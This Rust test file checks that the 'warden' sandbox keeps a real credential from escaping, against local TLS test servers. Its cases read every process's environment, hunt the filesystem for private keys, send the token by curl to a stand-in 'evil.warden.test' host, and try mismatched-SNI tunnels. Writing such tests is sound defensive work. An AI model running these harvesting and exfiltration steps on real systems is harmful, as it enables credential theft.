//! Credential escapes (issue 36): a tool holds a credential it may use but
//! never see. warden keeps the real value (here in its own environment only,
//! `from = { env = … }`), gives the tool a placeholder, and puts the real
//! value in place of the placeholder only in requests it intercepts toward a
//! bound host. Each case attacks that from inside the call, with curl, bash
//! and python, against TLS servers on the host's 127.0.0.1 under the names of
//! the `# warden tests` block of /etc/hosts (warden trusts their test CA
//! through `SSL_CERT_FILE`): the real value must never reach the tool (its
//! output, its files), the audit record, or a host no bind covers, in any
//! form (raw, base64 or base64url at every alignment). Each carries a control:
//! the bound server really received the real value through the same call, so
//! none passes because nothing works.

#[path = "credential_kit.rs"]
mod kit;
#[path = "credential_more.rs"]
mod more;

use kit::{Call, Judge, Pki, Secret, Server, Tls, call, names_resolve, pki, policy, unready};

use crate::{Case, Observed, Scene};

const CLASS: &str = "credential";

fn c(id: &'static str, attempt: &'static str, expected: &'static str, run: fn(&Scene) -> Observed) -> Case {
    Case { id, class: CLASS, runtime: "process", attempt, expected, heavy: false, run }
}

/// The names resolve and the test CA exists, or the reason they do not.
fn ready(s: &Scene) -> Result<&'static Pki, Observed> {
    names_resolve().map_err(unready)?;
    pki(s).map_err(unready)
}

fn g(host: &str, port: u16) -> String {
    format!("{host}:{port}")
}

/// The tool's first line (`PH=<placeholder>`) and the control: the bound
/// server's `/raw` with the placeholder as a bearer token (`control: N`, N the
/// times the tool saw its placeholder in the echoed head).
fn control(api: u16) -> String {
    format!(
        "echo \"PH=$API_TOKEN\"\n\
         c=$(curl -sS -m 15 -H \"Authorization: Bearer $API_TOKEN\" \"https://api.warden.test:{api}/raw?control=1\" 2>&1)\n\
         echo \"control: $(printf '%s' \"$c\" | grep -c \"Bearer $API_TOKEN\")\"\n"
    )
}

/// The control held: the tool saw its placeholder echoed, the bound server got the real value.
fn controlled(j: &mut Judge<'_>, call: &Call, api: &Server, secret: &Secret) {
    j.line(call, "control", &["1"]);
    let got = api.text().lines().any(|l| l.contains("control=1") && l.contains(&format!("Bearer {}", secret.real)));
    j.check(got, "the bound server received the real value in the control request");
}

/// Without a network namespace a call with grants is unavailable: nothing ran, nothing arrived.
fn no_netns(s: &Scene, call: &Call, servers: &[&Server], secret: &Secret) -> Option<Observed> {
    if s.call_has("net") {
        return None;
    }
    let quiet = servers.iter().all(|v| v.events().is_empty());
    let ok = call.run.error_code() == "SANDBOX_UNAVAILABLE" && quiet && secret.found(&call.run.all()).is_empty();
    Some(Observed::new(ok, format!("no network namespace here: {}; servers untouched: {quiet}", call.run.brief())))
}

/// The python prelude of the raw cases: `tunnel(target)` (a CONNECT through
/// warden's proxy), `tls(sock, sni, alpn)` (verified with the tool's bundle
/// unless `verify=False`), `exchange(sock, raw)` (sends, reads to the end,
/// prints the whole answer as `name: STATUSES | TEXT`).
const PRELUDE: &str = r#"import os, socket, ssl, re
PH = os.environ.get('API_TOKEN', '')
print('PH=' + PH, flush=True)
def say(n, r):
    print(f'{n}: {r}', flush=True)
def tunnel(target):
    s = socket.create_connection(('127.0.0.1', 3128), timeout=10)
    s.sendall(f'CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n'.encode())
    b = b''
    while b'\r\n\r\n' not in b:
        d = s.recv(4096)
        if not d:
            raise OSError('the proxy closed')
        b += d
    code = b.split(b' ')[1].decode()
    if code != '200':
        raise OSError('CONNECT answered ' + code)
    return s
def tls(s, sni, alpn=None, verify=True):
    ctx = ssl.create_default_context() if verify else ssl._create_unverified_context()
    if alpn:
        ctx.set_alpn_protocols(alpn)
    return ctx.wrap_socket(s, server_hostname=sni)
def exchange(s, raw):
    s.sendall(raw)
    s.settimeout(8)
    b = b''
    try:
        while True:
            d = s.recv(65536)
            if not d:
                break
            b += d
    except OSError:
        pass
    codes = ' '.join(m.decode() for m in re.findall(rb'HTTP/1\.[01] (\d{3})', b)) or 'no answer'
    return codes + ' | ' + b.decode('latin-1').replace('\r', ' ').replace('\n', ' ')
def attempt(n, fn):
    try:
        say(n, fn())
    except (OSError, ssl.SSLError) as e:
        say(n, 'failed ' + type(e).__name__ + ' ' + str(e))
def get(path, host, close=True):
    c = 'Connection: close\r\n' if close else ''
    return f'GET {path} HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {PH}\r\n{c}\r\n'.encode()
"#;

/// Runs `body` after [`PRELUDE`] with python3 in the tool.
fn python(s: &Scene, id: &str, pki: &Pki, secret: &Secret, pol: &str, api: u16, body: &str) -> Call {
    let script = format!("{PRELUDE}{body}");
    let cmd = format!(
        "cat > probe.py <<'EOF'\n{script}\nEOF\n{}/usr/bin/python3 probe.py\n",
        control(api).replacen("echo \"PH=$API_TOKEN\"\n", "", 1)
    );
    call(s, id, pki, secret, pol, &cmd)
}

fn env_case(s: &Scene) -> Observed {
    let pki = match ready(s) {
        Ok(p) => p,
        Err(o) => return o,
    };
    let secret = Secret::new();
    let api = Server::start(s, pki, Tls::Trusted, 0);
    let pol = policy(api.port, &[g("api.warden.test", api.port)], &["/proc"], "30s");
    let cmd = format!(
        "{}echo \"variable: $API_TOKEN\"\n\
         echo \"environ: $(cat /proc/self/environ | tr '\\0' '\\n' | grep '^API_TOKEN=')\"\n\
         echo \"shell_environ: $(tr '\\0' '\\n' </proc/$$/environ | grep '^API_TOKEN=')\"\n\
         echo \"python_environ: $(/usr/bin/python3 -c \"import re; print(re.search(rb'API_TOKEN=([^\\\\0]*)', \
         open('/proc/self/environ', 'rb').read()).group(1).decode())\")\"\n\
         for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do tr '\\0' '\\n' < \"$f\" 2>/dev/null; done\n\
         env; set; cat \"$SSL_CERT_FILE\" | tail -c 2000\n",
        control(api.port)
    );
    let call = call(s, "credential-env", pki, &secret, &pol, &cmd);
    if let Some(o) = no_netns(s, &call, &[&api], &secret) {
        return o;
    }
    let mut j = Judge::new(s, &secret);
    let ph = j.placeholder(&call);
    j.line(&call, "variable", &[&ph]);
    j.line(&call, "environ", &[&format!("API_TOKEN={ph}")]);
    j.line(&call, "shell_environ", &[&format!("API_TOKEN={ph}")]);
    j.line(&call, "python_environ", &[&ph]);
    controlled(&mut j, &call, &api, &secret);
    j.clean_call(&call);
    j.done(&call)
}

/// The probe of [`keys_case`]: every file the tool can see that changed since
/// the case began, and every file under the places warden could have put one
/// (the workspace, `{tmp}`, HOME, the CA bundle and its directory, /tmp,
/// /var/tmp, /dev/shm, /run: those the sandbox lets it list), and every file of
/// `{system}`'s /etc entries, searched for a PEM private key; each found
/// compared with warden's egress CA (the bundle's certificate named so) by
/// public key. The tool can list only what it is granted: `{system}` is
/// passed in (`warden::policy::SYSTEM_READ`), its package directories searched
/// for files changed since the case began (a full read of /usr takes minutes).
const KEYS: &str = r#"import os, subprocess, sys
since = sys.argv[1]
PH = os.environ.get('API_TOKEN', '')
print('PH=' + PH, flush=True)
def say(n, r):
    print(f'{n}: {r}', flush=True)
NEEDLE = bytes.fromhex('50524956415445204b45592d2d2d2d2d')
bundle = os.environ.get('SSL_CERT_FILE', '')
data = open(bundle, 'rb').read() if bundle else b''
certs = data.split(b'-----BEGIN CERTIFICATE-----')[1:]
say('bundle', f'{len(certs)} certificates, {data.count(NEEDLE)} private keys, file {bundle}')
def pub_of_cert(pem):
    r = subprocess.run(['openssl', 'x509', '-noout', '-subject', '-pubkey'], input=pem, capture_output=True)
    return r.stdout.decode()
ca = None
for c in certs:
    text = pub_of_cert(b'-----BEGIN CERTIFICATE-----' + c)
    if 'warden egress CA' in text:
        ca = text[text.index('-----BEGIN PUBLIC KEY'):]
say('warden_ca', 'found in the bundle' if ca else 'NOT in the bundle')
system = sys.argv[2:]
def files(paths, *extra):
    paths = [p for p in paths if p and os.path.exists(p)]
    if not paths:
        return []
    r = subprocess.run(['find'] + paths + ['-type', 'f', '-size', '-4M'] + list(extra) + ['-print'],
        capture_output=True, text=True)
    return r.stdout.splitlines()
new = files([p for p in system if not p.startswith('/etc')], '-newermt', '@' + since)
places = [os.getcwd(), os.environ.get('HOME', ''), os.environ.get('TMPDIR', ''), os.path.dirname(bundle),
    '/tmp', '/var/tmp', '/dev/shm', '/run']
placed = files(places) + [bundle]
etc = files([p for p in system if p.startswith('/etc')])
say('searched', f'{len(new)} new since the case began, {len(placed)} in the places, {len(etc)} under /etc')
def keys_in(path):
    try:
        b = open(path, 'rb').read()
    except OSError:
        return []
    out = []
    for part in b.split(b'-----BEGIN ')[1:]:
        end = part.find(NEEDLE)
        if end >= 0 and end < 40:
            out.append(b'-----BEGIN ' + part)
    return out
def matches_ca(pem):
    r = subprocess.run(['openssl', 'pkey', '-pubout'], input=pem, capture_output=True)
    return ca is not None and r.returncode == 0 and r.stdout.decode().strip() == ca.strip()
must_be_none, system, ca_hits = [], [], []
for group, files in (('new', new), ('placed', placed), ('etc', etc)):
    for f in sorted(set(files)):
        for k in keys_in(f):
            if matches_ca(k):
                ca_hits.append(f)
            (system if group == 'etc' else must_be_none).append(f)
say('ca_key', f'{len(ca_hits)} {ca_hits[:5]}')
say('keys_placed', f'{len(set(must_be_none))} {sorted(set(must_be_none))[:5]}')
say('keys_system', f'{len(set(system))} {sorted(set(system))[:5]}')
env = open('/proc/self/environ', 'rb').read()
say('env_keys', str(env.count(NEEDLE)))
"#;

fn keys_case(s: &Scene) -> Observed {
    let pki = match ready(s) {
        Ok(p) => p,
        Err(o) => return o,
    };
    let secret = Secret::new();
    let since = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs() - 2;
    let api = Server::start(s, pki, Tls::Trusted, 0);
    let pol = policy(api.port, &[g("api.warden.test", api.port)], &["/proc"], "80s");
    let cmd = format!(
        "cat > keys.py <<'EOF'\n{KEYS}\nEOF\n{}/usr/bin/python3 keys.py {since} {}\n",
        control(api.port).replacen("echo \"PH=$API_TOKEN\"\n", "", 1),
        warden::policy::SYSTEM_READ.join(" ")
    );
    let call = call(s, "credential-keys", pki, &secret, &pol, &cmd);
    if let Some(o) = no_netns(s, &call, &[&api], &secret) {
        return o;
    }
    let mut j = Judge::new(s, &secret);
    j.placeholder(&call);
    j.line(&call, "bundle", &[""]);
    let bundle = call.run.out().lines().find(|l| l.starts_with("bundle: ")).unwrap_or_default().to_string();
    j.check(bundle.contains(" 0 private keys"), "the bundle holds no private key");
    j.line(&call, "warden_ca", &["found in the bundle"]);
    j.line(&call, "searched", &[""]);
    j.line(&call, "ca_key", &["0 "]);
    j.line(&call, "keys_placed", &["0 "]);
    j.line(&call, "env_keys", &["0"]);
    // The host's own keys under /etc/ssl ({system} grants it): said, not judged here.
    j.line(&call, "keys_system", &[""]);
    controlled(&mut j, &call, &api, &secret);
    j.clean_call(&call);
    j.done(&call)
}

fn ungranted_case(s: &Scene) -> Observed {
    let pki = match ready(s) {
        Ok(p) => p,
        Err(o) => return o,
    };
    let secret = Secret::new();
    let api = Server::start(s, pki, Tls::Trusted, 0);
    let other = Server::start(s, pki, Tls::Trusted, 0);
    let pol = policy(api.port, &[g("api.warden.test", api.port)], &[], "30s");
    let o = other.port;
    let cmd = format!(
        "{}echo \"https: $(curl -sS -m 15 -o /dev/null -w '%{{http_connect}} %{{http_code}}' \
         -H \"Authorization: Bearer $API_TOKEN\" https://npm.warden.test:{o}/raw 2>/dev/null)\"\n\
         echo \"http: $(curl -sS -m 15 -o /dev/null -w '%{{http_code}}' \
         -H \"Authorization: Bearer $API_TOKEN\" \"http://npm.warden.test:{o}/raw?t=$API_TOKEN\" 2>/dev/null)\"\n\
         echo \"api_port_other_name: $(curl -sS -m 15 -o /dev/null -w '%{{http_connect}} %{{http_code}}' \
         -H \"Authorization: Bearer $API_TOKEN\" https://npm.warden.test:{}/raw 2>/dev/null)\"\n",
        control(api.port),
        api.port
    );
    let call = call(s, "credential-ungranted", pki, &secret, &pol, &cmd);
    if let Some(o) = no_netns(s, &call, &[&api, &other], &secret) {
        return o;
    }
    let mut j = Judge::new(s, &secret);
    j.placeholder(&call);
    j.line(&call, "https", &["403 000"]);
    j.line(&call, "http", &["403"]);
    j.line(&call, "api_port_other_name", &["403 000"]);
    let seen = other.events();
    j.check(seen.is_empty(), format!("the ungranted server: {}", other.summary()));
    j.check(api.requests().is_empty(), format!("the bound server beyond the control: {}", api.requests().len()));
    j.clean("the ungranted server", &other.text());
    controlled(&mut j, &call, &api, &secret);
    j.clean_call(&call);
    j.done(&call)
}

/// The evil server saw the placeholder (it was reached) and no form of the real value.
fn evil_saw_placeholder(j: &mut Judge<'_>, evil: &Server, ph: &str) {
    let text = evil.text();
    j.check(!ph.is_empty() && text.contains(ph), format!("evil received the placeholder ({})", evil.summary()));
    j.clean("evil.warden.test", &text);
}

fn unbound_case(s: &Scene) -> Observed {
    let pki = match ready(s) {
        Ok(p) => p,
        Err(o) => return o,
    };
    let secret = Secret::new();
    let api = Server::start(s, pki, Tls::Trusted, 0);
    let evil = Server::start(s, pki, Tls::Trusted, 0);
    let net = [g("api.warden.test", api.port), g("evil.warden.test", evil.port)];
    let pol = policy(api.port, &net, &[], "30s");
    let cmd = format!(
        "{}echo \"evil: $(curl -sS -m 15 -H \"Authorization: Bearer $API_TOKEN\" \
         \"https://evil.warden.test:{}/raw?t=$API_TOKEN\" 2>&1 | grep -c \"Bearer $API_TOKEN\")\"\n",
        control(api.port),
        evil.port
    );
    let call = call(s, "credential-unbound", pki, &secret, &pol, &cmd);
    if let Some(o) = no_netns(s, &call, &[&api, &evil], &secret) {
        return o;
    }
    let mut j = Judge::new(s, &secret);
    let ph = j.placeholder(&call);
    j.line(&call, "evil", &["1"]);
    evil_saw_placeholder(&mut j, &evil, &ph);
    let opaque = call.attempts(evil.port).iter().all(|a| a["intercepted"] != true);
    j.check(opaque && !call.attempts(evil.port).is_empty(), "the record: evil's tunnel was opaque");
    controlled(&mut j, &call, &api, &secret);
    j.clean_call(&call);
    j.done(&call)
}

fn sni_case(s: &Scene) -> Observed {
    let pki = match ready(s) {
        Ok(p) => p,
        Err(o) => return o,
    };
    let secret = Secret::new();
    let api = Server::start(s, pki, Tls::Trusted, 0);
    let evil = Server::start(s, pki, Tls::Trusted, 0);
    let (a, e) = (api.port, evil.port);
    let pol = policy(a, &[g("api.warden.test", a), g("evil.warden.test", e)], &[], "40s");
    let body = format!(
        "attempt('sni_evil', lambda: exchange(tls(tunnel('api.warden.test:{a}'), 'evil.warden.test', verify=False), \
         get('/raw', 'evil.warden.test:{a}')))\n\
         attempt('sni_evil_verified', lambda: exchange(tls(tunnel('api.warden.test:{a}'), 'evil.warden.test'), \
         get('/raw', 'evil.warden.test:{a}')))\n\
         attempt('sni_none', lambda: exchange(ssl._create_unverified_context().wrap_socket(tunnel('api.warden.test:{a}')), \
         get('/raw', 'api.warden.test:{a}')))\n\
         import subprocess\n\
         r = subprocess.run(['curl', '-sS', '-m', '15', '--connect-to', 'evil.warden.test:{a}:api.warden.test:{a}', \
         '-H', 'Authorization: Bearer ' + PH, 'https://evil.warden.test:{a}/raw'], capture_output=True, text=True)\n\
         say('curl_connect_to', 'exit %d %s %s' % (r.returncode, r.stderr.strip()[-120:], r.stdout[-300:]))\n\
         r = subprocess.run(['openssl', 's_client', '-proxy', '127.0.0.1:3128', '-connect', 'api.warden.test:{a}', \
         '-servername', 'evil.warden.test'], input='GET /raw HTTP/1.1\\r\\nHost: evil.warden.test\\r\\n\\r\\n', \
         capture_output=True, text=True, timeout=20)\n\
         say('s_client', 'exit %d %s' % (r.returncode, ' '.join(l for l in r.stdout.splitlines() if 'Verify' in l \
         or 'HTTP/' in l or 'Cipher is' in l)[:200]))\n"
    );
    let call = python(s, "credential-sni", pki, &secret, &pol, a, &body);
    if let Some(o) = no_netns(s, &call, &[&api, &evil], &secret) {
        return o;
    }
    let mut j = Judge::new(s, &secret);
    j.placeholder(&call);
    let refused: &[&str] = &["failed SSLError", "failed ConnectionResetError", "failed SSLEOFError", "failed OSError"];
    j.line(&call, "sni_evil", refused);
    j.line(&call, "sni_evil_verified", refused);
    // Without SNI the name cannot disagree: warden answers for the CONNECT target.
    j.line(&call, "sni_none", &["200 ", "failed SSLError", "failed ConnectionResetError", "failed SSLEOFError"]);
    j.line(&call, "curl_connect_to", &["exit 35", "exit 56", "exit 60"]);
    j.line(&call, "s_client", &["exit 1", "exit 0"]);
    let out = call.run.out();
    j.check(!out.contains("s_client: exit 0 ") || !out.contains("HTTP/1.1 200"), "s_client got no answer");
    let reqs = api.requests();
    let sni_none = usize::from(out.contains("sni_none: 200 "));
    j.check(reqs.len() == sni_none, format!("the bound server beyond the control: {}", api.summary()));
    j.check(evil.events().is_empty(), format!("evil: {}", evil.summary()));
    controlled(&mut j, &call, &api, &secret);
    j.clean_call(&call);
    j.done(&call)
}

pub(crate) fn cases() -> Vec<Case> {
    let mut v = vec![
        c(
            "credential-env/process",
            "print the credential's variable, read /proc/self/environ, every /proc/N/environ and cmdline, env, set \
             and the CA bundle",
            "only the placeholder (the real value's prefix and length, not its value); the control: the bound \
             server received the real value, the tool saw its placeholder echoed",
            env_case,
        ),
        c(
            "credential-keys/process",
            "search what the tool can see for a PEM private key: every file of {system} changed since the case \
             began, every file of {system}'s /etc entries, of the workspace, {tmp}, HOME, the CA bundle (and what \
             it may list of /tmp, /var/tmp, /dev/shm, /run); compare each key found with warden's egress CA",
            "the bundle holds warden's CA certificate and no private key; no key found matches warden's CA; none \
             where warden could have put one; none in the environment (the host's own keys that {system}'s \
             /etc/ssl shows are listed, not judged)",
            keys_case,
        ),
        c(
            "credential-ungranted/process",
            "send the placeholder to a host the call is not granted (npm.warden.test:O, https by CONNECT and plain \
             http, and the bound port under that other name)",
            "403 from the proxy each time; the ungranted server sees no connection",
            ungranted_case,
        ),
        c(
            "credential-unbound/process",
            "send the placeholder to evil.warden.test, granted in net.connect but bound by no credential (an opaque \
             tunnel), in the Authorization header and the query",
            "evil receives the placeholder only; the record shows the tunnel not intercepted",
            unbound_case,
        ),
        c(
            "credential-sni/process",
            "CONNECT api.warden.test (bound) and then TLS with SNI evil.warden.test (python, verified and not; \
             curl --connect-to; openssl s_client -servername)",
            "the handshake is refused (warden answers only for the CONNECT target); the bound server receives no \
             request, evil nothing",
            sni_case,
        ),
    ];
    v.extend(more::cases());
    v
}
